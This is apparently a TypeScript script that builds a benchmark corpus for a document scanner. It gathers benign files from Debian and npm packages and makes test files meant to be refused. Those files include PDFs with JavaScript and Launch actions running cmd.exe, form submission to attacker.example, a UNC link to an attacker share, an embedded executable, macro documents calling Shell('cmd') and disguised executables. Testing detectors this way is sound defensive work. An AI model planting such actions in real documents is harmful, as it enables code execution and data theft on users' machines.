// Rebuilds the real-document corpus that bench/corpus-scan.ts judges the built-in engine on:
// documents people made with ordinary tools, taken from Debian packages (apt-get download +
// dpkg-deb -x, no install) and npm packages (npm pack + tar, no install), and risky files (ClamAV's own test files, and files this script
// makes with the test fixtures' builders: PDF actions, macro documents, disguised programs).
// PDFs from writers other than pdfTeX are made here from packaged material (scripts/corpus/pdf-writers.ts):
// Chromium (Skia) prints HTML manuals, groff typesets man pages, Ghostscript re-writes PDFs and
// PostScript, cairo draws SVG icons, LibreOffice exports templates, workbooks and HTML, WeasyPrint
// typesets HTML, pdftk (iText) and MuPDF re-write PDFs, qpdf moves dictionaries into object
// streams. Those programs come from Debian (chromium, groff, ghostscript, qpdf, librsvg2-bin,
// libreoffice-*-nogui, weasyprint, pdftk-java, mupdf-tools); run as root, the script installs
// what is missing with apt-get, otherwise it says what to install.
// Nothing is committed: the corpus lives in a temp folder (default /tmp/sekisho-corpus).
//
//   node --import tsx scripts/build-corpus.ts [--dir /tmp/sekisho-corpus]
//
// It writes DIR/manifest.json: [{ path, kind, expect: 'accept' | 'refuse', source }].
import { execFileSync } from 'node:child_process';
import {
  copyFileSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { basename, join, relative } from 'node:path';
import { parseArgs } from 'node:util';
import { deflateSync } from 'node:zlib';
import { buildPdf } from '../test/fixtures/files/build-pdf.js';
import { buildOoxml, buildZip } from '../test/fixtures/files/build-zip.js';
import { samples } from '../test/fixtures/files/samples.js';
import { type CorpusItem as Item, walk } from './corpus/corpus-files.js';
import { officeSources } from './corpus/office-sources.js';
import {
  cairoPdfs,
  chromiumPdfs,
  ghostscriptPdfmark,
  ghostscriptPdfs,
  groffPdfs,
  libreofficePdfs,
  mupdfPdfs,
  pdftkPdfs,
  qpdfObjectStreams,
  requireWriters,
  type Sourced,
  weasyprintPdfs,
} from './corpus/pdf-writers.js';

const { values } = parseArgs({ options: { dir: { type: 'string', default: '/tmp/sekisho-corpus' } } });
const DIR = values.dir as string;

/** The Debian packages the corpus comes from, and what each gives. */
const PACKAGES = [
  'texlive-latex-base-doc', // PDF manuals made by pdfTeX/LuaTeX, .tex sources, gzipped text
  'r-doc-pdf', // R's manuals (PDF, pdfTeX)
  'libreoffice-common', // LibreOffice's own templates (.ott/.ots/.otp/.otg)
  'r-cran-openxlsx', // workbooks (.xlsx) shipped as examples
  'r-cran-readxl', // Excel-made .xlsx and .xls examples
  'python3-docx', // the default .docx template Word made
  'adwaita-icon-theme', // PNG icons
  'tango-icon-theme', // PNG icons
  'libpython3.11-testsuite', // CJK text in its native encodings (test/cjkencodings), zips
  'clamav-testfiles', // ClamAV's test files: programs, archives, mail, documents carrying clam.exe
  'debian-reference-ja', // HTML manual in Japanese, printed to PDF by Chromium
  'maint-guide-ja', // HTML manual in Japanese, printed to PDF by Chromium
  'sqlite3-doc', // SQLite's HTML documentation (many links), printed to PDF by Chromium
  'manpages', // Linux man pages (groff source), typeset to PDF by groff and Ghostscript
];

/** npm packages that ship real documents in their tarball (fetched with `npm pack`, never installed). */
const NPM_PACKAGES = [
  'pdf-parse@1.1.1', // test/data: PDFs from several producers, one of them damaged on purpose
];

function fetchNpmPackages(): void {
  const dir = join(DIR, 'npm');
  mkdirSync(dir, { recursive: true });
  for (const spec of NPM_PACKAGES) {
    const name = spec.replace(/@[^@]*$/, '');
    const into = join(dir, name);
    if (existsSync(into)) continue;
    const tarball = execFileSync('npm', ['pack', spec, '--silent'], { cwd: dir, encoding: 'utf8' }).trim();
    mkdirSync(into, { recursive: true });
    execFileSync('tar', ['-xzf', join(dir, tarball), '-C', into]);
  }
}

function fetchPackages(): void {
  const debs = join(DIR, 'debs');
  mkdirSync(debs, { recursive: true });
  const missing = PACKAGES.filter((p) => !readdirSync(debs).some((f) => f.startsWith(`${p}_`)));
  if (missing.length > 0) {
    console.log(`apt-get download ${missing.join(' ')}`);
    execFileSync('apt-get', ['download', ...missing], { cwd: debs, stdio: 'inherit' });
  }
  mkdirSync(join(DIR, 'x'), { recursive: true }); // dpkg-deb -x makes its target, not the parents
  for (const deb of readdirSync(debs).filter((f) => f.endsWith('.deb'))) {
    const into = join(DIR, 'x', deb.split('_')[0] as string);
    if (existsSync(into)) continue;
    // dpkg-deb makes the last folder only: on a fresh corpus, DIR/x is not there yet.
    mkdirSync(into, { recursive: true });
    execFileSync('dpkg-deb', ['-x', join(debs, deb), into]);
  }
}

const items: Item[] = [];
const out = (kind: string, name: string) => {
  const dir = join(DIR, 'corpus', kind);
  mkdirSync(dir, { recursive: true });
  return join(dir, name);
};
/** Names given in this run: a rebuild into the same folder overwrites its files instead of adding copies. */
const taken = new Set<string>();
/** Copies a packaged file into the corpus under a unique, readable name. */
function take(file: string, kind: string, expect: Item['expect'], pkg: string, name = basename(file)): void {
  let target = out(kind, name);
  for (let i = 2; taken.has(target); i++) target = out(kind, `${i}-${name}`);
  taken.add(target);
  copyFileSync(file, target);
  items.push({
    path: relative(DIR, target),
    kind,
    expect,
    source: `${pkg}: ${relative(join(DIR, 'x', pkg), file)}`,
  });
}
function make(kind: string, name: string, bytes: Buffer, expect: Item['expect'], source: string): void {
  const target = out(kind, name);
  writeFileSync(target, bytes);
  items.push({ path: relative(DIR, target), kind, expect, source });
}
const files = (pkg: string, test: (f: string) => boolean) => walk(join(DIR, 'x', pkg)).filter(test);
const every = <T>(list: T[], n: number) =>
  list.filter((_, i) => i % Math.max(1, Math.floor(list.length / n)) === 0);
/** A kind's folder in the corpus. */
const dir = (kind: string) => join(DIR, 'corpus', kind);
/** Packaged files, each with the package and path it came from. */
const sourced = (pkg: string, list: string[]): Sourced[] =>
  list.map((file) => ({ file, source: `${pkg}: ${relative(join(DIR, 'x', pkg), file)}` }));

/**
 * Real documents that do carry what the policy refuses, each checked by hand: they are expected
 * to be refused, and the bench lists them apart from false positives.
 */
const REALLY_ACTIVE: Readonly<Record<string, string>> = {
  'hyperref-doc.pdf':
    "a real Launch action: hyperref's manual demonstrates a run: link (/S /Launch /F (...))",
};

function accepted(): void {
  for (const f of files('texlive-latex-base-doc', (f) => f.endsWith('.pdf'))) {
    const note = REALLY_ACTIVE[basename(f)];
    if (note === undefined) take(f, 'pdf', 'accept', 'texlive-latex-base-doc');
    else take(f, 'pdf-active', 'refuse', `texlive-latex-base-doc (${note})`);
  }
  for (const f of files('r-doc-pdf', (f) => f.endsWith('.pdf'))) take(f, 'pdf', 'accept', 'r-doc-pdf');
  for (const f of walk(join(DIR, 'npm', 'pdf-parse')).filter((f) => f.endsWith('.pdf'))) {
    const target = out('pdf', `pdf-parse-${basename(f)}`);
    copyFileSync(f, target);
    items.push({
      path: relative(DIR, target),
      kind: 'pdf',
      expect: 'accept',
      source: `npm pdf-parse@1.1.1: ${relative(join(DIR, 'npm', 'pdf-parse'), f)}`,
    });
  }
  for (const pkg of ['r-cran-openxlsx', 'r-cran-readxl', 'python3-docx'])
    for (const f of files(pkg, (f) => /\.(xlsx|xls|docx)$/.test(f))) take(f, 'office', 'accept', pkg);
  for (const f of files('libreoffice-common', (f) => /\.o[dt][tspg]$/.test(f)))
    take(f, 'odf', 'accept', 'libreoffice-common');
  for (const pkg of ['adwaita-icon-theme', 'tango-icon-theme'])
    for (const f of every(
      files(pkg, (f) => f.endsWith('.png')),
      150,
    ))
      take(f, 'image', 'accept', pkg);
  // Each CJK test text in its own encoding; the name says which (big5.txt, euc_jp.txt …).
  for (const f of files('libpython3.11-testsuite', (f) => f.includes('/cjkencodings/') && f.endsWith('.txt')))
    take(f, 'text', 'accept', 'libpython3.11-testsuite');
  for (const f of files('texlive-latex-base-doc', (f) => /\.(tex|md|txt|cfg)$/.test(f)))
    take(f, 'text', 'accept', 'texlive-latex-base-doc');
  for (const f of files('texlive-latex-base-doc', (f) => f.endsWith('.gz')).slice(0, 40))
    take(f, 'gzip', 'accept', 'texlive-latex-base-doc');
  // Zips as applicants make them: LaTeX sources with their PDFs, a portfolio of mixed documents.
  const tex = files('texlive-latex-base-doc', (f) => /\.(tex|cfg)$/.test(f));
  const pdfs = files('r-doc-pdf', (f) => f.endsWith('.pdf'));
  const templates = files('libreoffice-common', (f) => f.endsWith('.ott'));
  const workbooks = files('r-cran-readxl', (f) => /\.xlsx?$/.test(f));
  const icons = files('tango-icon-theme', (f) => f.endsWith('.png'));
  for (let i = 0; i < 12; i++) {
    const pick = (list: string[], n: number) =>
      list.slice((i * n) % Math.max(1, list.length - n), ((i * n) % Math.max(1, list.length - n)) + n);
    const entries = [
      ...pick(tex, 4).map((f) => ({ name: `thesis/${basename(f)}`, data: readFileSync(f) })),
      ...pick(pdfs, 1).map((f) => ({ name: `thesis/${basename(f)}`, data: readFileSync(f) })),
      ...pick(templates, 1).map((f) => ({ name: `letters/${basename(f)}`, data: readFileSync(f) })),
      ...pick(workbooks, 1).map((f) => ({ name: `data/${basename(f)}`, data: readFileSync(f) })),
      ...pick(icons, 3).map((f) => ({ name: `images/${basename(f)}`, data: readFileSync(f) })),
      { name: 'thesis/.keep', data: '' },
    ];
    make(
      'zip',
      `portfolio-${i + 1}.zip`,
      buildZip(entries),
      'accept',
      'built from the files above (real documents, zipped)',
    );
  }
}

/**
 * PDFs from the writers real CVs come from, one kind per writer, made from packaged documents:
 * Chromium/Skia (HTML manuals, Japanese and English, full of links), groff (man pages),
 * Ghostscript (PDFs re-written, PostScript converted), cairo (SVG icons), LibreOffice (templates,
 * workbooks, a Word-made .docx, HTML), WeasyPrint (HTML), and pdftk (iText), MuPDF and qpdf's
 * object streams over a selection of all of them and of pdfTeX's. Returns groff's PDFs, for riskyFromWriters.
 */
async function otherWriters(): Promise<Sourced[]> {
  requireWriters();
  const add = (kind: string, made: Sourced[]) => {
    for (const m of made)
      items.push({ path: relative(DIR, m.file), kind, expect: 'accept', source: m.source });
    return made;
  };
  const refJa = sourced(
    'debian-reference-ja',
    files('debian-reference-ja', (f) => f.endsWith('.ja.html')).sort(),
  );
  const guideJa = sourced('maint-guide-ja', files('maint-guide-ja', (f) => f.endsWith('.ja.html')).sort());
  const sqlite = sourced('sqlite3-doc', files('sqlite3-doc', (f) => f.endsWith('.html')).sort());
  const html = [...refJa, ...guideJa, ...every(sqlite, 30)];
  // Real pages only: a page that only includes another (`.so`) is a few bytes.
  const man = sourced(
    'manpages',
    files('manpages', (f) => f.endsWith('.gz') && statSync(f).size > 1500).sort(),
  );
  const texPdfs = sourced(
    'texlive-latex-base-doc',
    files(
      'texlive-latex-base-doc',
      (f) => f.endsWith('.pdf') && statSync(f).size < 400_000 && REALLY_ACTIVE[basename(f)] === undefined,
    ).sort(),
  );
  const parsePdfs = walk(join(DIR, 'npm', 'pdf-parse'))
    .filter((f) => f.endsWith('.pdf'))
    .map((file) => ({ file, source: `npm pdf-parse@1.1.1: ${basename(file)}` }));
  const svgs = [
    ...sourced('tango-icon-theme', every(files('tango-icon-theme', (f) => f.endsWith('.svg')).sort(), 25)),
    ...sourced(
      'adwaita-icon-theme',
      every(files('adwaita-icon-theme', (f) => f.endsWith('.svg')).sort(), 15),
    ),
  ];
  const skia = add('pdf-skia', await chromiumPdfs(html, dir('pdf-skia')));
  const groff = add('pdf-groff', await groffPdfs(every(man, 40), dir('pdf-groff')));
  const gs = add(
    'pdf-ghostscript',
    await ghostscriptPdfs(
      [...every(texPdfs, 10), ...parsePdfs, ...every(skia, 6), ...every(man.slice(1), 12)],
      dir('pdf-ghostscript'),
    ),
  );
  const cairo = add('pdf-cairo', await cairoPdfs(svgs, dir('pdf-cairo')));
  const office = [
    ...sourced('libreoffice-common', files('libreoffice-common', (f) => /\.o[dt][tspg]$/.test(f)).sort()),
    ...['r-cran-openxlsx', 'r-cran-readxl', 'python3-docx'].flatMap((pkg) =>
      sourced(pkg, files(pkg, (f) => /\.(xlsx|xls|docx)$/.test(f)).sort()),
    ),
    ...guideJa,
  ];
  const lo = add('pdf-libreoffice', [
    ...libreofficePdfs(office, dir('pdf-libreoffice')),
    ...libreofficePdfs(
      every(
        office.filter((d) => d.file.endsWith('.ott')),
        8,
      ),
      join(dir('pdf-libreoffice'), 'hybrid'),
      true,
    ),
  ]);
  // WeasyPrint takes seconds a page: a sample of the pages Chromium printed.
  const weasy = add(
    'pdf-weasyprint',
    await weasyprintPdfs([...every(guideJa, 4), ...every(sqlite, 10)], dir('pdf-weasyprint')),
  );
  // Re-writers, each over a sample of every writer above and of pdfTeX's (`from` shifts which).
  const sample = (from: number) =>
    [skia, groff, gs, cairo, lo, weasy, texPdfs].flatMap((list) => every(list.slice(from), 8));
  add('pdf-pdftk', await pdftkPdfs(sample(2), dir('pdf-pdftk')));
  add('pdf-mupdf', await mupdfPdfs(sample(2), dir('pdf-mupdf')));
  add('pdf-qpdf-objstm', await qpdfObjectStreams(sample(1), dir('pdf-qpdf-objstm')));
  return groff;
}

/**
 * Risky files in a real writer's structure: a (CV-sized) man page from groff re-written by
 * Ghostscript with an action added, as is and with its dictionaries moved into object streams.
 */
async function riskyFromWriters(groff: Sourced[]): Promise<void> {
  const base = groff.find((m) => statSync(m.file).size < 100_000);
  if (base === undefined) return;
  const marks = {
    'gs-openaction-js':
      '[ {Catalog} << /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >> /PUT pdfmark',
    'gs-link-launch':
      '[ /Rect [72 72 300 100] /Border [0 0 0] /Action << /S /Launch /F (cmd.exe) >> /Subtype /Link /ANN pdfmark',
  };
  const risky: Sourced[] = [];
  for (const [name, pdfmark] of Object.entries(marks)) {
    const file = join(dir('risky-made'), `${name}.pdf`);
    ghostscriptPdfmark(base.file, pdfmark, file);
    risky.push({ file, source: `ghostscript: ${base.source}, with the pdfmark ${pdfmark}` });
  }
  const objstm = await qpdfObjectStreams(risky, join(dir('risky-made'), 'objstm'));
  for (const m of [...risky, ...objstm])
    items.push({ path: relative(DIR, m.file), kind: 'risky-made', expect: 'refuse', source: m.source });
}

function risky(): void {
  for (const f of files(
    'clamav-testfiles',
    (f) => f.includes('/clamav-testfiles/') && !f.includes('/doc/') && !f.includes('/lintian/'),
  ))
    take(f, 'risky-clamav', 'refuse', 'clamav-testfiles');
  const pdf = (name: string, extra: Parameters<typeof buildPdf>[0]) =>
    make(
      'risky-made',
      name,
      buildPdf(extra),
      'refuse',
      'made by this script (test/fixtures/files/build-pdf.ts)',
    );
  pdf('js-openaction.pdf', { catalogExtra: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' });
  pdf('js-escaped.pdf', { catalogExtra: '/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>' });
  pdf('js-objstm.pdf', { objStm: '<< /S /JavaScript /JS (app.alert(1)) >>' });
  pdf('launch.pdf', { catalogExtra: '/OpenAction << /S /Launch /F (cmd.exe) >>' });
  pdf('gotor-unc.pdf', {
    catalogExtra: '/OpenAction << /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>',
  });
  pdf('submitform.pdf', {
    catalogExtra: '/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://attacker.example/) >> >>',
  });
  pdf('embedded-exe.pdf', {
    catalogExtra: '/Names << /EmbeddedFiles << /Names [(a) 8 0 R] >> >>',
    objects: [
      { dict: '/Type /EmbeddedFile /Filter /FlateDecode', data: deflateSync(samples.pe) },
      '<< /Type /Filespec /F (invoice.exe) /EF << /F 7 0 R >> >>',
    ],
  });
  const clamExe = join(DIR, 'x', 'clamav-testfiles', 'usr', 'share', 'clamav-testfiles', 'clam.exe');
  make(
    'risky-made',
    'macro.xlsm',
    buildOoxml('xlsx', { macros: true }),
    'refuse',
    'made by this script (a VBA project)',
  );
  make(
    'risky-made',
    'macro.docm',
    buildOoxml('docx', { macros: true }),
    'refuse',
    'made by this script (a VBA project)',
  );
  make('risky-made', 'cv.pdf', readFileSync(clamExe), 'refuse', 'clam.exe renamed cv.pdf');
  make('risky-made', '履歴書.docx', readFileSync('/bin/ls'), 'refuse', '/bin/ls (ELF) renamed 履歴書.docx');
  make(
    'risky-made',
    'notes.txt',
    Buffer.from(readFileSync(clamExe).toString('base64').replace(/.{76}/g, '$&\n')),
    'refuse',
    'clam.exe in base64, named .txt',
  );
  const template = files('libreoffice-common', (f) => f.endsWith('.ott'))[0];
  if (template !== undefined) {
    // A real template with a Basic library added, as a macro virus would carry it.
    const withBasic = buildZip([
      { name: 'mimetype', data: 'application/vnd.oasis.opendocument.text', method: 0 },
      { name: 'META-INF/manifest.xml', data: '<manifest:manifest/>' },
      { name: 'content.xml', data: '<office:document-content/>' },
      {
        name: 'Basic/Standard/Module1.xml',
        data: '<script:module script:name="Module1">Sub Main\nShell("cmd")\nEnd Sub</script:module>',
      },
    ]);
    make('risky-made', 'macro.odt', withBasic, 'refuse', 'made by this script (a Basic library)');
    make(
      'risky-made',
      'hybrid-macro.pdf',
      buildPdf({
        objects: [{ dict: '', data: withBasic }],
        trailerExtra: '/AdditionalStreams [/application#2Fvnd#2Eoasis#2Eopendocument#2Etext 7 0 R]',
      }),
      'refuse',
      'made by this script (a hybrid PDF whose LibreOffice document has a Basic library)',
    );
  }
  make(
    'risky-made',
    'mismatch.zip',
    buildZip([{ name: 'cv.pdf', localName: 'cv.exe', data: buildPdf() }]),
    'refuse',
    'local and central names differ',
  );
}

fetchPackages();
fetchNpmPackages();
rmSync(join(DIR, 'corpus'), { recursive: true, force: true }); // a rebuild replaces, never adds 2-copies
accepted();
items.push(...officeSources(DIR)); // Office and OpenDocument files from other writers
await riskyFromWriters(await otherWriters());
risky();
writeFileSync(join(DIR, 'manifest.json'), `${JSON.stringify(items, null, 1)}\n`);
const bytes = items.reduce((n, i) => n + statSync(join(DIR, i.path)).size, 0);
const kinds = [...new Set(items.map((i) => i.kind))].map(
  (k) => `${k} ${items.filter((i) => i.kind === k).length}`,
);
console.log(
  `${items.length} files, ${(bytes / 1024 / 1024).toFixed(1)} MB in ${DIR}/corpus (${kinds.join(', ')})`,
);
